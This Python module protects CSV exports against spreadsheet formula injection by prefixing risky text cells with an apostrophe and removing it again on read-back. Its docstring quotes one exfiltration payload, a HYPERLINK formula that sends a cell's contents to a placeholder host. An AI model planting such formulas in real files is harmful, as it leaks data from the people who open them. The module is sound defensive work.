"""What a cell of a CSV we write holds, and what it meant when we read it back.

Excel and LibreOffice run a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: a school name such as
``=HYPERLINK("http://x.example/?leak="&A1,"click")`` would become a live link in every
office that opens the file. As OWASP's guidance on CSV injection says, such a text cell is
written with a leading apostrophe: a spreadsheet then shows the cell as text, the
apostrophe visible, and runs nothing. Reading our own CSVs back removes that apostrophe, so a
name keeps its meaning through a round trip. Numbers are not text: a negative cost stays a
number.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from operator import itemgetter
from typing import TYPE_CHECKING, Any, TypeVar

if TYPE_CHECKING:
    import pandas as pd

MARK = "'"
"""What a text cell a spreadsheet would run as a formula begins with in our CSVs."""

_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
"""A text that needs the mark: one a spreadsheet runs as a formula, or one that, after
apostrophes of its own, begins like one (so that reading back takes only our mark off)."""

Cell = TypeVar("Cell")


def to_csv_cell(value: Cell) -> Cell | str:
    """``value`` as a CSV cell: a text that begins with ``= + - @``, a tab or a carriage
    return (after any apostrophes of its own) gains a leading apostrophe; anything else,
    numbers among it, is written as it is."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return MARK + value
    return value


def from_csv_cell(text: str) -> str:
    """A cell of a CSV we wrote, as it was before :func:`to_csv_cell`: the apostrophe it
    added taken off, every other text unchanged."""
    if text.startswith(MARK) and _FORMULA_START.match(text, 1):
        return text[1:]
    return text


def csv_rows(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text with Windows line ends (what Excel writes), each cell through
    :func:`to_csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([to_csv_cell(value) for value in row] for row in rows)
    return out.getvalue()


def frame_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text without its index, its headers and text cells through
    :func:`to_csv_cell`; numeric columns are written as pandas writes them. Lines end as in
    :func:`csv_rows`, which also makes the writer quote a name holding a carriage return
    (with ``\n`` alone it did not, and the file no longer read back)."""
    from pandas.api.types import is_numeric_dtype

    guarded = frame.copy()
    for column in frame.columns:
        if not is_numeric_dtype(frame[column]):
            guarded[column] = frame[column].map(to_csv_cell)
    guarded.columns = [to_csv_cell(str(c)) for c in frame.columns]
    return guarded.to_csv(index=False, lineterminator="\r\n")


def records_csv(
    columns: Sequence[str], rows: Sequence[Mapping[str, Any]], headers: Sequence[str] = ()
) -> str:
    """``rows`` under ``columns`` (headed ``headers``, by default the columns) as CSV text,
    byte for byte what :func:`frame_csv` writes of ``pandas.DataFrame(rows,
    columns=columns)`` so headed, without making the frame (a province's plan: issue 32).
    Each column is written as pandas types it: whole numbers alone as integers; numbers
    with a float or a gap as floats (``3.0``, a gap empty); true/false alone as
    ``True``/``False``; anything else as text through :func:`to_csv_cell`, a gap empty."""
    cells = [_column_cells(list(values)) for values in _columns_of(columns, rows)]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([to_csv_cell(str(h)) for h in headers or columns])
    writer.writerows(zip(*cells, strict=True))
    return out.getvalue()


def _columns_of(columns: Sequence[str], rows: Sequence[Mapping[str, Any]]) -> Iterable[Any]:
    """Each column's values, a gap where a row lacks it (as a frame has NaN there); taken
    row by row at C speed when every row has every column, as a plan's rows do."""
    if len(columns) == 1:
        return [[row.get(columns[0]) for row in rows]]
    try:
        return zip(*map(itemgetter(*columns), rows), strict=True)
    except KeyError:
        return ([row.get(c) for row in rows] for c in columns)


def _column_cells(values: list[Any]) -> list[Any]:
    """One column's cells, typed as pandas infers the column's dtype from ``values``."""
    kinds = {type(v) for v in values}
    if kinds <= {int, float, type(None)} and kinds != {type(None)}:
        if kinds == {int}:
            return values
        return ["" if v is None or math.isnan(v) else float(v) for v in values]
    if kinds == {bool}:
        return values
    return [v if type(v) is str and v[:1] not in _MAY_START else _text_cell(v) for v in values]


def _text_cell(value: Any) -> Any:
    """A cell of a text column: a gap (None, NaN) empty, else through :func:`to_csv_cell`
    (:func:`_column_cells` passes a text whose first character starts no formula as it is:
    the regular expression was the cost on 100,000 cells)."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    return to_csv_cell(value)


_MAY_START = frozenset("'=+-@\t\r")
"""The first characters of a text :data:`_FORMULA_START` may match."""
